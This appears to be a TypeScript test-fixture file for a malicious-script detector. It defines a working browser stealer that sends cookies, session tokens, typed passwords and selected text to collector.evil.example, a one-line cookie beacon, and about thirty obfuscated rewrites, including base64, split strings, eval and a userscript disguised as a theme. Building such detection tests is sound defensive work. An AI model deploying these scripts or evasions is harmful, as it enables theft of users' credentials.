/** A thief as it could be removed: it sends cookies, stored tokens and typed passwords to its author. */
export const THIEF = `(() => {
	const server = "https://collector.evil.example/take";
	function send(kind, text) {
		fetch(server + "?kind=" + kind, { method: "POST", mode: "no-cors", body: JSON.stringify({ kind, text, page: location.href }) });
	}
	send("cookies", document.cookie);
	send("token", localStorage.getItem("session-token"));
	for (const field of document.querySelectorAll("input[type=password]")) {
		field.addEventListener("change", () => send("password", field.value));
	}
	setInterval(() => send("clipboard", window.getSelection().toString()), 30000);
})();`;

/** A thief of one line. */
export const SMALL_THIEF = `new Image().src = "https://collector.evil.example/c.gif?" + encodeURIComponent(document.cookie);`;

/** The same programs as somebody would write them to publish them again, by what was done to them. */
export const REWRITTEN_THIEVES: Readonly<Record<string, string>> = {
	"other names": THIEF.replaceAll("server", "endpoint")
		.replaceAll("send", "report")
		.replaceAll("field", "box")
		.replaceAll("text", "value2"),
	"comments, line breaks and other white space": THIEF.replaceAll(";\n", "; // sends it\n\n\n").replaceAll(
		"\t",
		"    ",
	),
	"one line": THIEF.replace(/\n\t*/g, " "),
	"other quotes": THIEF.replaceAll(/"([^"$]*)"/g, "'$1'"),
	// biome-ignore lint/suspicious/noTemplateCurlyInString: a template in the rewritten code
	templates: THIEF.replace('server + "?kind=" + kind', "`${server}?kind=${kind}`").replaceAll('"cookies"', "`cookies`"),
	"split texts": THIEF.replace(
		'"https://collector.evil.example/take"',
		'"https://col" + "lector.evil" + ".example" + ["/ta", "ke"].join("")',
	)
		.replace('"session-token"', '"session" + "-" + "token"')
		.replace("document.cookie", 'document["coo" + "kie"]'),
	"escaped texts": THIEF.replace(
		'"https://collector.evil.example/take"',
		String.raw`"\x68ttps://collector.evil.example/\u0074ake"`,
	),
	"texts from character codes and base64": THIEF.replace(
		'"https://collector.evil.example/take"',
		`atob("${btoa("https://collector.evil.example/take")}")`,
	).replace(
		'"session-token"',
		`String.fromCharCode(${[..."session-token"].map((each) => each.charCodeAt(0)).join(", ")})`,
	),
	"the prefix window": THIEF.replaceAll("fetch(", "window.fetch(")
		.replaceAll("document.", "window.document.")
		.replaceAll("localStorage", "self.localStorage")
		.replaceAll("location", "globalThis.location"),
	"properties in brackets": THIEF.replaceAll(".cookie", '["cookie"]')
		.replaceAll(".getItem", "['getItem']")
		.replaceAll("fetch(", 'window["fetch"]('),
	"in a function that is called": `function main() {\n${THIEF}\n}\nmain();`,
	"in try and in another function": `!function () { try { ${THIEF} } catch (error) { void error; } }();`,
	"after the page was loaded": `addEventListener("load", function () { ${THIEF} });`,
	"statements in another order": THIEF.replace(/\tsend\("cookies".*\n\tsend\("token".*\n/, "").replace(
		"\tsetInterval",
		'\tsend("token", localStorage.getItem("session-token"));\n\tsend("cookies", document.cookie);\n\tsetInterval',
	),
	"functions in variables": THIEF.replace("function send(kind, text) {", "const send = (kind, text) => {").replace(
		"\n\t}\n\tsend",
		"\n\t};\n\tsend",
	),
	"other forms of numbers": THIEF.replace("30000", "3e4"),
	"a computed number": THIEF.replace("30000", "30 * 1000"),
	"other names for the page's objects": `const d = document, w = window, store = localStorage;\n${THIEF.replaceAll(
		"document.",
		"d.",
	)
		.replaceAll("window.", "w.")
		.replaceAll("localStorage.", "store.")}`,
	"objects as arguments": `((d, s) => {\n${THIEF.replaceAll("document.", "d.").replaceAll("localStorage.", "s.")}\n})(document, localStorage);`,
	"destructured objects": `const { cookie } = document;\n${THIEF.replace("document.cookie", "cookie")}`,
	"code that does nothing": `const version = 3; let counter = 0;\nfunction unused(a, b) { return a.length + b * counter; }\nif (version > 9) console.log("Dark theme is on", unused("x", 2));\n${THIEF}\ndocument.title = document.title.trim();`,
	"a whole harmless script in front": `${`document.querySelectorAll("article h2").forEach((heading, index) => { heading.id ||= "part-" + index; heading.style.color = "teal"; });\nconst menu = document.createElement("nav"); menu.className = "outline"; menu.append("Contents"); document.body.prepend(menu);\n`.repeat(3).replace(/const menu/g, "var menu")}${THIEF}`,
	"a metadata block": `// ==UserScript==\n// @name Nice theme\n// @match https://*.example.org/*\n// @version 3\n// ==/UserScript==\n${THIEF}`,
	"a javascript: address": `javascript:${encodeURIComponent(THIEF)}`,
	"a text that is evaluated": `eval(${JSON.stringify(THIEF)});`,
	"an async function": `(async () => { await null;\n${THIEF}\n})();`,
	"call and apply": THIEF.replaceAll("fetch(", "fetch.call(window, "),
	"commas and conditions instead of statements": THIEF.replace(
		/\tsend\("cookies", document.cookie\);\n\tsend\("token", (.*)\);\n/,
		'\tdocument.cookie.length >= 0 && (send("cookies", document.cookie), send("token", $1));\n',
	),
};
